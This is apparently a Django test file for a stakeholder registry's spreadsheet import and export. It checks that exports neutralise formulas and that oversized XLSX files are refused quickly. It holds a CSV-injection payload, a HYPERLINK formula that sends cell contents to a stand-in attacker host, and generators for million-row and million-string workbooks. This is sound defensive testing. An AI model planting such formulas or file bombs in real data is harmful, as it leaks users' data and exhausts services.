"""Spreadsheet files themselves: exports that no spreadsheet evaluates, downloads named for every browser, and an
import that reads hostile or unusual files in bounded time."""

import io
import time
import zipfile

import pytest
from django.urls import reverse

from msp.models import PartnershipRole, Role
from stakeholders import spreadsheets
from stakeholders.models import ContactPerson, Membership, Organisation, StakeholderMapEntry
from tests.factories import ContactFactory, MembershipFactory, OrganisationFactory, PartnershipFactory

from .test_import_export import check_and_import, import_url, upload

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'


@pytest.fixture
def planted(partnership):
    """What a secretariat user of another partnership can type into the shared registry."""
    org = OrganisationFactory(name="Ghana Cocoa Board", sector="public", description=PLANTED, short_name="@GCB")
    MembershipFactory(partnership=partnership, organisation=org)
    ContactFactory(organisation=org, name="Esi Mensah", job_title="-Director", phone="+233 20 000", email="")
    return partnership


def _export(client, partnership, what, fmt):
    url = reverse(f"stakeholders:{what}_export", kwargs={"partnership_pk": partnership.pk})
    response = client.get(url, {"format": fmt})
    assert response.status_code == 200
    return response


def test_the_csv_export_turns_formulas_into_text(client, planted, partner):
    client.force_login(partner)
    text = _export(client, planted, "contacts", "csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert ",'@GCB," in text and ",'-Director," in text and ",'+233 20 000," in text
    for line in text.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(","))


def test_the_xlsx_export_holds_no_formula(client, planted, partner):
    client.force_login(partner)
    content = _export(client, planted, "contacts", "xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in archive.namelist() else ""
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet + strings  # as text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_survives_a_round_trip_as_typed(client, planted, secretariat, fmt):
    client.force_login(secretariat)
    files = {what: _export(client, planted, what, fmt).content for what in ("members", "contacts")}
    fresh = PartnershipFactory(name="Fresh start")
    PartnershipRole.objects.create(partnership=fresh, user=secretariat, role=Role.SECRETARIAT)
    Membership.objects.all().delete()
    Organisation.objects.all().delete()
    for kind in ("members", "contacts"):
        preview, confirm = check_and_import(client, fresh, f"{kind}.{fmt}", files[kind], kind)
        assert preview.status_code == 200, [r.errors for r in preview.context["preview"].rows]
        assert confirm.status_code == 302
    org = Organisation.objects.get()
    assert (org.description, org.short_name) == (PLANTED, "@GCB")
    contact = ContactPerson.objects.get()
    assert (contact.job_title, contact.phone) == ("-Director", "+233 20 000")


def test_an_apostrophe_typed_before_a_formula_sign_survives_too(partnership):
    content = "Organisation,Sector,Description\nA,public,'=1+1\nB,public,''-x\nC,public,'plain\n"
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="a.csv", content=content.encode())
    assert [r.new_organisation["description"] for r in preview.rows] == ["=1+1", "'-x", "'plain"]


def test_downloads_are_named_for_every_browser(client, secretariat, partnership):
    partnership.name = "Filière cacao Côte d’Ivoire"
    partnership.save()
    client.force_login(secretariat)
    for what in ("members", "map", "contacts"):
        disposition = _export(client, partnership, what, "csv")["Content-Disposition"]
        assert disposition.startswith("attachment; filename*=utf-8''fili%C3%A8re-cacao-c%C3%B4te"), disposition
    chart = client.get(reverse("stakeholders:map_chart", kwargs={"partnership_pk": partnership.pk}))
    assert chart["Content-Disposition"].startswith("inline; filename*=utf-8''fili%C3%A8re")


# --- reading hostile and unusual files ---------------------------------------------------------------------------


def _workbook_with_rows(count, *, dimension="A1:B1"):
    """An XLSX whose sheet has a header and `count` rows of two cells, compressed, with a (lying) dimension:
    the sheet XML is written straight into the zip stream, so making a million rows takes about a second."""
    from openpyxl import Workbook

    book = io.BytesIO()
    Workbook().save(book)
    out = io.BytesIO()
    with zipfile.ZipFile(book) as template, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in template.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, template.read(info.filename))
        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                + f'<dimension ref="{dimension}"/><sheetData>'.encode()
                + b'<row><c t="inlineStr"><is><t>Organisation</t></is></c>'
                b'<c t="inlineStr"><is><t>Sector</t></is></c></row>'
            )
            row = b'<row><c t="inlineStr"><is><t>Org</t></is></c><c t="inlineStr"><is><t>public</t></is></c></row>'
            for _chunk in range(count // 10000):
                sheet.write(row * 10000)
            sheet.write(row * (count % 10000))
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_million_row_workbook_is_refused_within_two_seconds(partnership):
    content = _workbook_with_rows(1_000_000)
    assert len(content) < 5 * 1024 * 1024
    # CPU time, not the wall clock, so another process's load does not fail it (parsing all rows took 533 s).
    started = time.process_time()
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="big.xlsx", content=content)
    elapsed = time.process_time() - started
    assert preview.problems == ["The file has more than 2000 rows; import at most 2000 at a time."]
    assert elapsed < 2, elapsed


def _workbook_with_shared_strings(count):
    """A small workbook whose shared-string table holds `count` one-letter strings (a million zip to 46 KB)."""
    from openpyxl import Workbook

    book = io.BytesIO()
    Workbook().save(book)
    out = io.BytesIO()
    with zipfile.ZipFile(book) as template, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in template.infolist():
            data = template.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
                )
            target.writestr(info, data)
        with target.open("xl/sharedStrings.xml", "w") as strings:
            strings.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            for _chunk in range(count // 10000):
                strings.write(b"<si><t>x</t></si>" * 10000)
            strings.write(b"</sst>")
    return out.getvalue()


def test_a_workbook_with_a_million_shared_strings_is_refused_quickly(partnership):
    content = _workbook_with_shared_strings(1_000_000)
    started = time.process_time()
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="s.xlsx", content=content)
    assert time.process_time() - started < 2
    assert preview.problems and "too large or too complex" in preview.problems[0]


def test_a_workbook_whose_dimension_says_one_row_is_read_in_full(partnership):
    content = _workbook_with_rows(3, dimension="A1:A1")
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="small.xlsx", content=content)
    assert not preview.problems
    assert len(preview.rows) == 3


def test_a_workbook_claiming_the_whole_sheet_is_read_quickly(partnership):
    content = _workbook_with_rows(3, dimension="A1:XFD1048576")
    started = time.process_time()
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="small.xlsx", content=content)
    assert time.process_time() - started < 2
    assert not preview.problems and len(preview.rows) == 3


def test_a_csv_with_too_many_rows_is_refused(partnership):
    content = "Organisation,Sector\n" + "A,public\n" * 2001
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="a.csv", content=content.encode())
    assert preview.problems == ["The file has more than 2000 rows; import at most 2000 at a time."]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_unicode_text_from_excel_imports(client, secretariat, partnership, encoding):
    """Excel's "Unicode text" is UTF-16 with a byte-order mark, tab-separated."""
    text = "Organisation\tSector\tCountry\tContact name\r\nCoopérative de Soubré\tCivil society\tCI\tAwa Koné\r\n"
    content = text.encode(encoding)
    if encoding == "utf-16-be":
        content = b"\xfe\xff" + content
    client.force_login(secretariat)
    preview, confirm = check_and_import(client, partnership, "people.txt", content, "contacts")
    assert preview.status_code == 200, preview.context["preview"].problems
    assert confirm.status_code == 302
    assert ContactPerson.objects.get().name == "Awa Koné"
    assert Organisation.objects.get().name == "Coopérative de Soubré"


def test_text_that_is_no_known_encoding_is_refused_without_nul_characters(signed_in_client, partnership):
    content = b"\xff\xfeO\x00r\x00g\x00\x00\xd8"  # a UTF-16 byte-order mark, then a broken surrogate
    response = signed_in_client.post(import_url(partnership), {"kind": "contacts", "file": upload("a.csv", content)})
    html = response.content.decode()
    assert "not text in a known encoding" in html
    assert "\x00" not in html
    assert not StakeholderMapEntry.objects.exists()


@pytest.fixture
def signed_in_client(client, secretariat):
    client.force_login(secretariat)
    return client


# --- country names -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "written, code",
    [
        ("Tanzania", "TZ"),
        ("Tanzanie", "TZ"),
        ("Tansania", "TZ"),
        ("TZ", "TZ"),
        ("tz", "TZ"),
        ("Tanzania, the United Republic of", "TZ"),
        ("Elfenbeinküste", "CI"),
        ("Ivory Coast", "CI"),
        ("Côte d’Ivoire", "CI"),
        ("Allemagne", "DE"),
        ("Deutschland", "DE"),
        ("USA", "US"),
        ("Vereinigte Staaten", "US"),
        ("United Kingdom", "GB"),
        ("DRC", "CD"),
        ("Congo", "CG"),
        ("Bolivia", "BO"),
        ("Vietnam", "VN"),
        ("South Korea", "KR"),
        ("Russia", "RU"),
    ],
)
def test_countries_are_known_by_their_common_names_in_three_languages(partnership, written, code):
    content = f'Organisation,Sector,Country\nA,public,"{written}"\n'
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="a.csv", content=content.encode())
    assert preview.valid, [r.errors for r in preview.rows]
    assert preview.rows[0].new_organisation["country_id"] == code


def test_a_misspelt_country_suggests_the_codelists_name(partnership):
    content = "Organisation,Sector,Country\nA,public,Tanzaina\n"
    preview = spreadsheets.preview(partnership=partnership, kind="contacts", filename="a.csv", content=content.encode())
    assert preview.rows[0].errors == [
        "Country: “Tanzaina” is not a country we know. Did you mean Tanzania, the United Republic of (TZ)?"
    ]
